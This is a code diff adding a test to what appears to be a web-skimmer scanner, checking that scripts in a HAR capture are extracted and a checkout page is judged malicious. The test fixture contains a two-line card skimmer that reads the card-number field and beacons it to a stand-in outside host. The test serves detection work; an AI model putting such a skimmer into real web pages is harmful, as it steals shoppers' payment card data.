@@ -74,3 +74,33 @@ def test_handlers_share_globals_and_see_their_element(tmp_path: Path) -> None:
     [target] = scan_files([page], engine=Engine(EngineOptions(use_disk_cache=False))).targets
     flows = [f for f in target.findings if f.rule == "card-data-to-untrusted-host"]
     assert flows and flows[0].location is not None and flows[0].location.line == 1
+
+
+def test_har_files_yield_their_scripts(tmp_path: Path) -> None:
+    import base64
+    import json
+
+    skimmer = ("var n = document.querySelector('#cc_number').value;\n"
+               "navigator.sendBeacon('https://drop-metrics.example.net/c', n);\n")
+    har = {"log": {"entries": [
+        {"request": {"url": "https://shop.example/app.js"},
+         "response": {"content": {"mimeType": "application/javascript",
+                                  "text": base64.b64encode(skimmer.encode()).decode(),
+                                  "encoding": "base64"}}},
+        {"request": {"url": "https://shop.example/logo.png"},
+         "response": {"content": {"mimeType": "image/png"}}},
+        {"request": {"url": "https://shop.example/checkout"},
+         "response": {"content": {"mimeType": "text/html",
+                                  "text": "<button onclick=\"go()\">Pay</button>"}}},
+    ]}}
+    path = tmp_path / "checkout.har"
+    path.write_text(json.dumps(har))
+    from skimscan.pipeline import Engine, EngineOptions, scan_files
+
+    [target] = scan_files([tmp_path], engine=Engine(EngineOptions(use_disk_cache=False))).targets
+    assert [s.url for s in target.scripts] == ["https://shop.example/app.js",
+                                               "https://shop.example/checkout#document-scripts"]
+    assert target.verdict.value == "malicious"
+    (tmp_path / "checkout.har").write_text("{\"not\": \"a har\"}")
+    [broken] = scan_files([path], engine=Engine(EngineOptions(use_disk_cache=False))).targets
+    assert broken.verdict.value == "error" and "not a HAR file" in (broken.error or "")
